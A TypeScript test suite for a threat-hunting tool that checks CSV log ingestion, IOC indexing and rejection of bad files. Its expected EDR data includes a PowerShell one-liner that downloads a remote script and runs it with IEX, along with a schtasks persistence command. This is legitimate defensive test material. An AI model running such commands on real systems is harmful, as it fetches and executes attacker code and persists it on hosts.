// Ingestion through the GraphQL API: every hand-written export in test/fixtures/ is stored exactly as
// ThreatHunt stores it (dataset columns, rows, occurrence index), and every bad one is refused whole.
import { createReadStream, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import type { Database } from "../../../../src/database/data-source";
import { createServices, type Services } from "../../../../src/modules/services";
import { createTestApi, type TestApi } from "../../../support/api";
import { openTestDatabase } from "../../../support/database";
import { FIXTURE_PROFILES, NETSTAT_ROW_4, type ProfiledFixture, RAGGED_FIREWALL_ROW_2 } from "../../../support/fixture-profiles";
import { csv } from "../../../support/hunting";
import { occurrencesOf, type StoredCounts, storedCounts, storedOf } from "../../../support/ingest";

const CREATE_HUNT = `mutation ($name: String!) { createHunt(input: { name: $name }) { hunt { id } } }`;
const IMPORT_DATASET = `mutation ($input: ImportDatasetInput!) {
  importDataset(input: $input) { paddedRows extendedRows dataset { id rowCount } }
}`;
const DATASET = `query ($id: ID!) {
  dataset(id: $id) {
    id name filename sourceTool rowCount columnSchema normalizedColumns iocColumns
    timeRangeStart timeRangeEnd encoding delimiter fileSizeBytes contentSha256
    hunt { id }
  }
}`;
const ROWS = `query ($id: ID!) {
  dataset(id: $id) { rows(first: 500) { totalCount nodes { rowIndex data normalizedData } } }
}`;
const HUNT_DATASETS = `query ($huntId: ID!) { datasets(huntId: $huntId, first: 50) { totalCount nodes { filename } } }`;

const FIXTURES = join(__dirname, "../../../fixtures");
const MIB = 1024 * 1024;
const UNKNOWN_HUNT = "0000000000000000000000000000000f";

const fixturePath = (file: string) => join(FIXTURES, file);
const sizeOf = (file: string) => statSync(fixturePath(file)).size;

/**
 * The mutation takes the CSV as a String, which a client builds from UTF-8 text: the UTF-16 and
 * Windows-1252 fixtures cannot be sent as their bytes that way, so those two go through the service
 * the mutation calls (`services.ingest.importCsv`) with a file stream; everything is read back through the API.
 */
const SENT_AS_BYTES = new Set(["sysmon-utf16le.csv", "logons-cp1252.csv"]);

interface Expected {
  file: ProfiledFixture;
  sourceTool: string | null;
  /** Index entries per "column type" pair, hand-counted from the file's distinct non-empty values. */
  indexed: Record<string, number>;
}

/** The good fixtures, in import order; their columns, time range and file facts are in FIXTURE_PROFILES. */
const GOOD_FIXTURES: Expected[] = [
  { file: "velociraptor-netstat.csv", sourceTool: "velociraptor", indexed: { "Fqdn hostname": 1, "Laddr.IP ip": 3, "Raddr.IP ip": 5 } },
  {
    file: "sysmon-utf16le.csv",
    sourceTool: "sysmon",
    indexed: { "Computer domain": 1, "DestinationHostname domain": 2, "DestinationIp ip": 2, "MD5 hash_md5": 3, "SHA256 hash_sha256": 3 },
  },
  { file: "proxy-semicolon.csv", sourceTool: null, indexed: { "Client IP ip": 3, "URL url": 5 } },
  { file: "edr-process-multiline.csv", sourceTool: null, indexed: { "host hostname": 2, "sha1 hash_sha1": 4 } },
  { file: "ragged-firewall.csv", sourceTool: null, indexed: { "dst_ip ip": 3, "src_ip ip": 3 } },
  { file: "logons-cp1252.csv", sourceTool: null, indexed: { "ComputerName hostname": 1, "SourceIp ip": 3 } },
  { file: "osquery-processes.tsv", sourceTool: "osquery", indexed: { "hostname hostname": 1, "md5 hash_md5": 5, "sha256 hash_sha256": 5 } },
];

/** The dataset fields of a fixture's profile as the API returns them: times as ISO strings. */
function storedProfile(file: ProfiledFixture) {
  const { paddedRows, extendedRows, timeRangeStart, timeRangeEnd, ...dataset } = FIXTURE_PROFILES[file];
  return { ...dataset, timeRangeStart: timeRangeStart?.toISOString() ?? null, timeRangeEnd: timeRangeEnd?.toISOString() ?? null };
}

let database: Database;
let api: TestApi;
let services: Services;
let huntId: string;
/** Import payload of each good fixture, by file name. */
const imported = new Map<string, { paddedRows: number; extendedRows: number; dataset: { id: string; rowCount: number } }>();

beforeAll(async () => {
  database = await openTestDatabase();
  api = await createTestApi(database);
  services = createServices(database);
  ({
    createHunt: {
      hunt: { id: huntId },
    },
  } = await api.data(CREATE_HUNT, { name: "Operation Nightfall" }));
  for (const { file, sourceTool } of GOOD_FIXTURES) {
    if (SENT_AS_BYTES.has(file)) {
      const { dataset, paddedRows, extendedRows } = await services.ingest.importCsv({
        huntId,
        filename: file,
        sourceTool,
        source: createReadStream(fixturePath(file)),
      });
      imported.set(file, { paddedRows, extendedRows, dataset: { id: dataset.id, rowCount: dataset.rowCount } });
    } else {
      const input = { huntId, filename: file, sourceTool, content: readFileSync(fixturePath(file), "utf8") };
      imported.set(file, (await api.data(IMPORT_DATASET, { input })).importDataset);
    }
  }
});
afterAll(() => database.close());

const idOf = (file: string) => imported.get(file)!.dataset.id;

async function rowsOf(file: string): Promise<{
  totalCount: number;
  nodes: Array<{ rowIndex: number; data: Record<string, string>; normalizedData: Record<string, string> }>;
}> {
  return (await api.data(ROWS, { id: idOf(file) })).dataset.rows;
}

describe("importDataset on every good fixture", () => {
  it.each(GOOD_FIXTURES)(
    "stores $file with its exact column types, canonical names, IOC columns, time range and file facts",
    async (expected) => {
      const { dataset } = await api.data(DATASET, { id: idOf(expected.file) });
      expect(dataset).toEqual({
        id: idOf(expected.file),
        name: expected.file,
        filename: expected.file,
        sourceTool: expected.sourceTool,
        ...storedProfile(expected.file),
        fileSizeBytes: sizeOf(expected.file),
        hunt: { id: huntId },
      });
      const { paddedRows, extendedRows, rowCount } = FIXTURE_PROFILES[expected.file];
      expect(imported.get(expected.file)).toEqual({
        paddedRows,
        extendedRows,
        dataset: { id: dataset.id, rowCount },
      });
    },
  );

  it.each(GOOD_FIXTURES)("stores every row of $file in file order, and an index entry per distinct IOC value", async (expected) => {
    const rows = await rowsOf(expected.file);
    const { rowCount } = FIXTURE_PROFILES[expected.file];
    expect(rows.totalCount).toBe(rowCount);
    expect(rows.nodes.map((row) => row.rowIndex)).toEqual(Array.from({ length: rowCount }, (_, i) => i));
    const indexed = (await occurrencesOf(database.dataSource, idOf(expected.file))).reduce<Record<string, number>>((counts, o) => {
      counts[`${o.column} ${o.type}`] = (counts[`${o.column} ${o.type}`] ?? 0) + 1;
      return counts;
    }, {});
    expect(indexed).toEqual(expected.indexed);
    const entries = Object.values(expected.indexed).reduce((sum, n) => sum + n, 0);
    expect(await storedOf(database.dataSource, idOf(expected.file))).toEqual({ datasets: 1, rows: rowCount, occurrences: entries });
  });

  it("lists the seven datasets under their hunt", async () => {
    const { datasets } = await api.data(HUNT_DATASETS, { huntId });
    expect(datasets.totalCount).toBe(7);
    expect(datasets.nodes.map((d: { filename: string }) => d.filename)).toEqual(GOOD_FIXTURES.map((f) => f.file));
  });
});

describe("stored rows", () => {
  it("keeps the raw row keyed by header names in header order, and the canonical row beside it", async () => {
    const row = (await rowsOf("velociraptor-netstat.csv")).nodes[4];
    expect(row.data).toEqual(NETSTAT_ROW_4.data);
    // toEqual ignores key order; the stored JSON must keep the file's column order.
    expect(Object.keys(row.data)).toEqual([
      "Pid",
      "Name",
      "Family",
      "Type",
      "Status",
      "Laddr.IP",
      "Laddr.Port",
      "Raddr.IP",
      "Raddr.Port",
      "Timestamp",
      "Fqdn",
    ]);
    expect(row.normalizedData).toEqual(NETSTAT_ROW_4.normalized);
    expect(Object.keys(row.normalizedData)).toEqual([
      "pid",
      "process_name",
      "family",
      "type",
      "connection_state",
      "src_ip",
      "src_port",
      "dst_ip",
      "dst_port",
      "timestamp",
      "hostname",
    ]);
  });

  it("keeps quoted fields with line breaks, escaped quotes, commas and backslashes intact", async () => {
    const { nodes } = await rowsOf("edr-process-multiline.csv");
    const launcher =
      "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"";
    expect(nodes[0].data.cmdline).toBe(launcher);
    expect(nodes[1].data).toEqual({
      timestamp: "2024-03-12 09:22:03.88",
      host: "WS-FIN-042",
      pid: "8120",
      ppid: "7788",
      exe: "cmd.exe",
      cmdline: 'cmd.exe /c "whoami /all, hostname"',
      ParentCommandLine: launcher,
      sha1: "ebf1f9fa8afd6d1932bd65bc4cc3af89a4c8e228",
      user: "CORP\\jdoe",
    });
    expect(nodes[1].normalizedData).toEqual({
      timestamp: "2024-03-12 09:22:03.88",
      hostname: "WS-FIN-042",
      pid: "8120",
      ppid: "7788",
      process_name: "cmd.exe",
      command_line: 'cmd.exe /c "whoami /all, hostname"',
      parent_command_line: launcher,
      hash_sha1: "ebf1f9fa8afd6d1932bd65bc4cc3af89a4c8e228",
      username: "CORP\\jdoe",
    });
    expect(nodes[2].data.cmdline).toBe('schtasks /create /tn "Updater" /tr "C:\\Users\\jdoe\\AppData\\Roaming\\upd.exe" /sc onlogon');
  });

  it("stores a long row with its extra cells and a short row padded to the header", async () => {
    const { nodes } = await rowsOf("ragged-firewall.csv");
    expect(nodes[2].data).toEqual(RAGGED_FIREWALL_ROW_2);
    expect(nodes[3].data).toEqual({
      timestamp: "2024-03-12T09:22:11Z",
      src_ip: "10.20.30.57",
      dst_ip: "",
      dst_port: "",
      action: "",
      message: "",
    });
    expect(nodes[3].normalizedData).toEqual({
      timestamp: "2024-03-12T09:22:11Z",
      src_ip: "10.20.30.57",
      dst_ip: "",
      dst_port: "",
      event_type: "",
      description: "",
    });
    expect(Object.keys(nodes[4].data)).toEqual(["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message", "extra_1"]);
    expect(nodes[4].normalizedData).toMatchObject({ description: "dns", extra_1: " udp" });
  });

  it("decodes UTF-16 LE and Windows-1252 files to the same text a UTF-8 file gives", async () => {
    const sysmon = (await rowsOf("sysmon-utf16le.csv")).nodes;
    expect(sysmon[2].data).toEqual({
      UtcTime: "2024-03-12 09:22:03.880",
      EventID: "1",
      Computer: "WS-FIN-042.corp.example.com",
      User: "CORP\\jdoe",
      ProcessId: "8120",
      Image: "C:\\Windows\\System32\\cmd.exe",
      CommandLine: '"C:\\Windows\\System32\\cmd.exe" /c whoami /all',
      MD5: "A4563E3B0D574C1C9B05EE6D96FE2979",
      SHA256: "DF28B5779E4E66D529E92A7A090C33EF0F554DDAD5DA041A1F614E14CE5B903A",
      DestinationIp: "",
      DestinationPort: "",
      DestinationHostname: "",
    });
    const logons = (await rowsOf("logons-cp1252.csv")).nodes;
    expect(logons[2].data).toEqual({
      EventTime: "2024/03/12 08:13:02",
      ComputerName: "SRV-FICHIERS-01",
      AccountName: "jürgen.müller",
      SourceIp: "10.20.30.61",
      LogonType: "3",
      Résultat: "Échec",
      Description: "Échec d’ouverture de session : mot de passe incorrect",
    });
    expect(logons[2].normalizedData).toMatchObject({ username: "jürgen.müller", résultat: "Échec" });
  });

  it("does not make the byte order mark part of the first column name", async () => {
    const { nodes } = await rowsOf("proxy-semicolon.csv");
    expect(Object.keys(nodes[0].data)).toEqual([
      "Time",
      "Client IP",
      "Username",
      "URL",
      "HTTP Status",
      "Bytes",
      "Category",
      "Action",
      "Duration",
    ]);
    expect(nodes[0].data).toMatchObject({ Time: "13/03/2024 08:01:17", Username: "CORP\\jdoe", Duration: "0,21" });
  });
});

describe("the occurrence index", () => {
  // Every indexed column of the fixtures is an IOC column.
  const entry = (
    column: string,
    type: string,
    value: string,
    occurrences: number,
    firstRowIndex: number,
    firstSeen: string | null,
    lastSeen = firstSeen,
    raw = value,
  ) => ({
    huntId,
    column,
    type,
    fromIocColumn: true,
    value,
    raw,
    occurrences,
    firstRowIndex,
    firstSeen,
    lastSeen,
  });

  it("holds every value of the netstat export's IP and host-name columns with counts, first row and time span", async () => {
    expect(await occurrencesOf(database.dataSource, idOf("velociraptor-netstat.csv"))).toEqual([
      // Host names are compared upper-cased, as ThreatHunt does; the raw value is kept for display.
      entry(
        "Fqdn",
        "hostname",
        "WS-FIN-042.CORP.EXAMPLE.COM",
        8,
        0,
        "2024-03-12T08:02:11.000Z",
        "2024-03-12T09:21:56.000Z",
        "WS-FIN-042.corp.example.com",
      ),
      entry("Laddr.IP", "ip", "0.0.0.0", 3, 0, "2024-03-12T09:14:03.000Z", "2024-03-12T09:14:04.000Z"),
      // Rows 3-6; its earliest time is on row 6 (08:02:11), its latest on row 5.
      entry("Laddr.IP", "ip", "10.20.30.42", 4, 3, "2024-03-12T08:02:11.000Z", "2024-03-12T09:21:56.000Z"),
      entry("Laddr.IP", "ip", "::", 1, 7, "2024-03-12T09:14:03.000Z"),
      entry("Raddr.IP", "ip", "0.0.0.0", 3, 0, "2024-03-12T09:14:03.000Z", "2024-03-12T09:14:04.000Z"),
      entry("Raddr.IP", "ip", "142.250.74.110", 1, 3, "2024-03-12T09:15:27.000Z"),
      entry("Raddr.IP", "ip", "185.220.101.34", 2, 4, "2024-03-12T09:21:55.000Z", "2024-03-12T09:21:56.000Z"),
      entry("Raddr.IP", "ip", "52.97.146.162", 1, 6, "2024-03-12T08:02:11.000Z"),
      entry("Raddr.IP", "ip", "::", 1, 7, "2024-03-12T09:14:03.000Z"),
    ]);
  });

  it("records the hosts each value was seen on, from the dataset's host column, for host prevalence", async () => {
    // Three rows on WS-FIN-042, one on WS-FIN-017 (the rundll32 row).
    const entries = await occurrencesOf(database.dataSource, idOf("edr-process-multiline.csv"), true);
    expect(entries.map((entry) => [entry.column, entry.value, entry.hosts])).toEqual([
      ["host", "WS-FIN-017", ["WS-FIN-017"]],
      ["host", "WS-FIN-042", ["WS-FIN-042"]],
      ["sha1", "3a6fe29a7ceee6587669798812d4baccab0fb913", ["WS-FIN-042"]],
      ["sha1", "3d4d5fa006b53386c50c752512f21363c5c42064", ["WS-FIN-017"]],
      ["sha1", "e978f868350d50ebe88342ab8b4357a4dc01753f", ["WS-FIN-042"]],
      ["sha1", "ebf1f9fa8afd6d1932bd65bc4cc3af89a4c8e228", ["WS-FIN-042"]],
    ]);
    // A dataset with no host column records none.
    const firewall = await occurrencesOf(database.dataSource, idOf("ragged-firewall.csv"), true);
    expect(new Set(firewall.map((entry) => entry.hosts))).toEqual(new Set([null]));
  });

  it("dates proxy-log values by their day-first timestamps and keeps URL paths' case", async () => {
    expect(await occurrencesOf(database.dataSource, idOf("proxy-semicolon.csv"))).toEqual([
      entry("Client IP", "ip", "10.20.30.42", 2, 0, "2024-03-13T08:01:17.000Z", "2024-03-13T08:03:42.000Z"),
      // Row 3 ("12/03/2024") reads as 3 December: it is the latest sighting of 10.20.30.57.
      entry("Client IP", "ip", "10.20.30.57", 2, 2, "2024-03-13T08:03:44.000Z", "2024-12-03T23:59:58.000Z"),
      entry("Client IP", "ip", "10.20.30.61", 1, 4, "2024-03-14T10:15:00.000Z"),
      entry("URL", "url", "http://185.220.101.34:8443/jquery-3.3.1.min.js", 1, 1, "2024-03-13T08:03:42.000Z"),
      entry("URL", "url", "http://update.example-cdn.net/agent/update.bin", 1, 2, "2024-03-13T08:03:44.000Z"),
      entry("URL", "url", "https://login.microsoftonline.com/common/oauth2/authorize", 1, 0, "2024-03-13T08:01:17.000Z"),
      entry("URL", "url", "https://pastebin.com/raw/Xk3dP9qL", 1, 4, "2024-03-14T10:15:00.000Z"),
      entry("URL", "url", "https://www.bbc.co.uk/news", 1, 3, "2024-12-03T23:59:58.000Z"),
    ]);
  });

  it("skips the empty cells of padded rows and does not index extra columns", async () => {
    expect(await occurrencesOf(database.dataSource, idOf("ragged-firewall.csv"))).toEqual([
      entry("dst_ip", "ip", "185.220.101.34", 3, 0, "2024-03-12T09:21:55.000Z", "2024-03-12T09:22:10.000Z"),
      entry("dst_ip", "ip", "198.51.100.7", 1, 4, "2024-03-12T09:23:00.000Z"),
      entry("dst_ip", "ip", "203.0.113.9", 1, 5, "2024-03-12T09:24:30.000Z"),
      entry("src_ip", "ip", "10.20.30.42", 3, 0, "2024-03-12T09:21:55.000Z", "2024-03-12T09:22:10.000Z"),
      entry("src_ip", "ip", "10.20.30.57", 2, 3, "2024-03-12T09:22:11.000Z", "2024-03-12T09:23:00.000Z"),
      entry("src_ip", "ip", "10.20.30.61", 1, 5, "2024-03-12T09:24:30.000Z"),
    ]);
  });

  it("stores hashes and domains lower-cased and host names upper-cased, with no time span where the file has none", async () => {
    const sysmon = await occurrencesOf(database.dataSource, idOf("sysmon-utf16le.csv"));
    expect(sysmon.filter((o) => o.column === "Computer" || o.column === "MD5")).toEqual([
      entry("Computer", "domain", "ws-fin-042.corp.example.com", 5, 0, null, null, "WS-FIN-042.corp.example.com"),
      entry("MD5", "hash_md5", "3999c6206dc82f6f4d91b771cf7e1225", 1, 0, null, null, "3999C6206DC82F6F4D91B771CF7E1225"),
      entry("MD5", "hash_md5", "7a1453555e60ba046cd1f59c5a2d865e", 1, 3, null, null, "7A1453555E60BA046CD1F59C5A2D865E"),
      entry("MD5", "hash_md5", "a4563e3b0d574c1c9b05ee6d96fe2979", 1, 2, null, null, "A4563E3B0D574C1C9B05EE6D96FE2979"),
    ]);
    const osquery = await occurrencesOf(database.dataSource, idOf("osquery-processes.tsv"));
    expect(osquery.find((o) => o.column === "hostname")).toEqual(
      entry("hostname", "hostname", "MAC-OPS-07", 5, 0, null, null, "mac-ops-07"),
    );
    const logons = await occurrencesOf(database.dataSource, idOf("logons-cp1252.csv"));
    expect(logons).toEqual([
      entry("ComputerName", "hostname", "SRV-FICHIERS-01", 4, 0, "2024-03-12T07:58:03.000Z", "2024-03-12T08:13:05.000Z"),
      entry("SourceIp", "ip", "10.20.30.57", 1, 0, "2024-03-12T07:58:03.000Z"),
      entry("SourceIp", "ip", "10.20.30.61", 2, 1, "2024-03-12T08:12:44.000Z", "2024-03-12T08:13:02.000Z"),
      entry("SourceIp", "ip", "185.220.101.34", 1, 3, "2024-03-12T08:13:05.000Z"),
    ]);
  });

  it("indexes host-name columns that are no IOC column as host names, marked as such", async () => {
    const { id: hunt } = await services.hunts.create({ name: "Lateral movement" });
    // Src Host (src_host) holds plain names: no IOC column. Dst Host holds domains: an IOC column as a domain only.
    const content = csv("Hostname,Src Host,Dst Host,dst_ip", "WS-FIN-042,ws-hr-07,fs01.corp.example.com,10.20.30.42");
    const { dataset } = await services.ingest.importCsv({ huntId: hunt, filename: "lateral.csv", source: Readable.from([content]) });
    expect(dataset.iocColumns).toEqual({ Hostname: "hostname", "Dst Host": "domain", dst_ip: "ip" });
    const stored = (column: string, type: string, fromIocColumn: boolean, value: string, raw = value) => ({
      ...entry(column, type, value, 1, 0, null, null, raw),
      huntId: hunt,
      fromIocColumn,
    });
    expect(await occurrencesOf(database.dataSource, dataset.id)).toEqual([
      stored("Dst Host", "domain", true, "fs01.corp.example.com"),
      stored("Dst Host", "hostname", false, "FS01.CORP.EXAMPLE.COM", "fs01.corp.example.com"),
      stored("Hostname", "hostname", true, "WS-FIN-042"),
      stored("Src Host", "hostname", false, "WS-HR-07", "ws-hr-07"),
      stored("dst_ip", "ip", true, "10.20.30.42"),
    ]);
  });
});

describe("importDataset on a bad file", () => {
  const header = "host,cmd\n";
  const goodRows = Array.from({ length: 1000 }, (_, i) => `ws${i},whoami\n`).join("");
  // Line 1 is the header, lines 2-1001 good rows: the oversized field is on line 1002.
  const oversized = header + goodRows + `ws-big,${"A".repeat(MIB + 1)}\nws-after,id\n`;

  const BAD_FILES = [
    {
      file: "empty.csv",
      content: () => readFileSync(fixturePath("empty.csv"), "utf8"),
      line: undefined,
      reason: "file is empty: no header row",
    },
    {
      file: "header-only.csv",
      content: () => readFileSync(fixturePath("header-only.csv"), "utf8"),
      line: 1,
      reason: "header row but no data rows",
    },
    // Read as text the PNG's NUL bytes stay: it is still binary.
    {
      file: "binary.png",
      content: () => readFileSync(fixturePath("binary.png"), "utf8"),
      line: undefined,
      reason: "file looks binary (NUL or control bytes), not a CSV export",
    },
    {
      file: "malformed-quoting.csv",
      content: () => readFileSync(fixturePath("malformed-quoting.csv"), "utf8"),
      line: 4,
      reason: 'malformed quoting: text after the closing quote of a field (a quote inside a quoted field is written "")',
    },
    { file: "oversized-field.csv", content: () => oversized, line: 1002, reason: "row larger than 1 MiB" },
    // past the 64 KiB the encoding is decided on: 8 + 5,000 × 14 bytes, then "ws02," and the NUL
    {
      file: "late-nul.csv",
      content: () => `host,ip\n${"ws01,10.0.0.1\n".repeat(5000)}ws02,\u0000x\n`,
      line: 5002,
      reason: "a NUL byte, which no CSV export holds at byte offset 70013",
    },
  ];

  let before: StoredCounts;
  beforeEach(async () => {
    before = await storedCounts(database.dataSource);
  });

  it.each(BAD_FILES)(
    "refuses $file with BAD_USER_INPUT naming the file, the line and the reason, and stores nothing",
    async ({ file, content, line, reason }) => {
      const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: file, content: content() } });
      expect(result.data).toBeNull();
      expect(result.errors).toHaveLength(1);
      const [error] = result.errors!;
      expect(error.message).toBe(line === undefined ? `${file}: ${reason}` : `${file} line ${line}: ${reason}`);
      expect(error.extensions).toEqual({ code: "BAD_USER_INPUT", file, line, reason });
      expect(error.path).toEqual(["importDataset"]);
      expect(await storedCounts(database.dataSource)).toEqual(before);
    },
  );

  it("refuses an unknown hunt with NOT_FOUND and stores nothing", async () => {
    const result = await api.run(IMPORT_DATASET, {
      input: { huntId: UNKNOWN_HUNT, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n" },
    });
    expect(result.data).toBeNull();
    expect(result.errors?.map((e) => [e.message, e.extensions?.code])).toEqual([[`No hunt with id '${UNKNOWN_HUNT}'`, "NOT_FOUND"]]);
    expect(await storedCounts(database.dataSource)).toEqual(before);
  });

  it.each([
    { input: { huntId: "nope" }, message: "Invalid input: huntId must be a 32-character lowercase hex id, got 'nope'" },
    { input: { filename: "   " }, message: "Invalid input: filename must not be blank" },
  ])("refuses input that fails validation ($message) before reading the content", async ({ input, message }) => {
    const result = await api.run(IMPORT_DATASET, {
      input: { huntId, filename: "netstat.csv", content: "host,ip\nws1,10.0.0.1\n", ...input },
    });
    expect(result.data).toBeNull();
    expect(result.errors?.map((e) => [e.message, e.extensions?.code])).toEqual([[message, "BAD_USER_INPUT"]]);
    expect(await storedCounts(database.dataSource)).toEqual(before);
  });

  it("refuses inline content one byte over 5 MiB, pointing to the HTTP upload", async () => {
    const content = header + "A".repeat(5 * MIB + 1 - header.length);
    const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: "big.csv", content } });
    expect(result.data).toBeNull();
    expect(result.errors?.map((e) => [e.message, e.extensions])).toEqual([
      [
        `content is ${5 * MIB + 1} bytes; inline CSV is limited to ${5 * MIB} bytes: upload larger files to /hunts/${huntId}/datasets`,
        { code: "BAD_USER_INPUT", field: "content" },
      ],
    ]);
    expect(await storedCounts(database.dataSource)).toEqual(before);
  });

  it("counts the limit in UTF-8 bytes, not characters", async () => {
    const content = "é".repeat(2.5 * MIB + 1); // under 5 Mi characters, 5 MiB + 2 bytes
    const result = await api.run(IMPORT_DATASET, { input: { huntId, filename: "accents.csv", content } });
    expect(result.errors?.[0].message).toMatch(new RegExp(`^content is ${5 * MIB + 2} bytes; inline CSV is limited to ${5 * MIB} bytes`));
    expect(result.errors?.[0].extensions?.code).toBe("BAD_USER_INPUT");
    expect(await storedCounts(database.dataSource)).toEqual(before);
  });
});
